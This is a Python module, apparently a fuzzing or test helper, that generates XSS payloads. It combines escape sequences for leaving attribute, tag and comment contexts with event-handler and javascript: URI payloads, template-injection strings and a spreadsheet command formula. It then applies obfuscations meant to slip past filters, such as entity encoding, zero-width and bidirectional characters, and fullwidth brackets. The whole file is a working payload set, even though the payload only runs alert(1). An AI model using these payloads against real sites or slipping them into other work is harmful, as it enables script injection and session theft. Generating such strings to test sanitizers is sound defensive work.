"""Texts that try to become markup, by a grammar: a way out of where they stand, something that acts, a disguise."""

import itertools
from collections.abc import Iterator

ACT = "alert(1)"
WAYS_OUT = (
    "", ">", '">', "'>", "`>", "-->", "]]>", "</title>", "</textarea>", "</script>", "</style>", "</mark>", "*/",
    "\\\">", '" ', "' ", "` ", "</noscript>", "</svg>", "</a>", "}};", "\u2028", "\r\n\r\n", "&quot;&gt;", "%22%3E",
    "<!--", "\ufeff",
)  # fmt: skip
THINGS_THAT_ACT = (
    f"<script>{ACT}</script>", f"<img src=x onerror={ACT}>", f"<svg/onload={ACT}>",
    f"<svg><script>{ACT}</script></svg>",
    f"<iframe src=javascript:{ACT}>", f'<iframe srcdoc="<script>{ACT}</script>">', f"<body onload={ACT}>",
    f"<details open ontoggle={ACT}>", f"<input autofocus onfocus={ACT}>", f"<video><source onerror={ACT}>",
    f'<a href="javascript:{ACT}">x</a>', f"<form action=javascript:{ACT}><button>", f"<object data=javascript:{ACT}>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={ACT}>", f"<base href=javascript:{ACT}//>",
    f'<meta http-equiv=refresh content="0;javascript:{ACT}">', f"<link rel=stylesheet href=javascript:{ACT}>",
    f"<mark onmouseover={ACT}>сөз</mark>", f"<template><script>{ACT}</script></template>", f"javascript:{ACT}",
    f"onmouseover={ACT} x=", f"autofocus onfocus={ACT} ", f"style=animation-name:x onanimationstart={ACT} ",
    "<style>*{background:url(javascript:alert(1))}</style>", f"${{{ACT}}}", f"{{{{{ACT}}}}}", f"{{% {ACT} %}}",
    f"data:text/html,<script>{ACT}</script>", f"<b>{ACT}</b>", f"<плагин onclick={ACT}>", f"=cmd|' /C {ACT}'!A0",
)  # fmt: skip


def _upper(text: str) -> str:
    return "".join(one.upper() if number % 2 else one for number, one in enumerate(text))


def _entities(text: str) -> str:
    return "".join(f"&#{ord(one)};" if one in "<>\"'" else one for one in text)


def _wide(text: str) -> str:
    return text.replace("<", "\uff1c").replace(">", "\uff1e").replace('"', "\uff02")


DISGUISES = (
    lambda text: text,
    _upper,
    _entities,
    lambda text: text.replace("<", "<\t").replace("=", "\n="),
    lambda text: text.replace("<", "<\u200b").replace("javascript", "java\tscript"),
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("javascript", " \x01javascript").replace("<", "<<"),
    _wide,
    lambda text: text.replace("<", "\u202e<\u2066"),
    lambda text: text.replace(" ", "/").replace(ACT, "alert`1`"),
)


def payloads(many: int) -> list[str]:
    """The first so many, all different: every way out, every thing that acts, every disguise early on."""

    def all_() -> Iterator[str]:
        for step in itertools.count():
            way = WAYS_OUT[step % len(WAYS_OUT)]
            thing = THINGS_THAT_ACT[(step + step // len(WAYS_OUT)) % len(THINGS_THAT_ACT)]
            yield DISGUISES[(step + step // 7) % len(DISGUISES)](way + thing)

    return list(itertools.islice(dict.fromkeys(itertools.islice(all_(), 20 * many)), many))
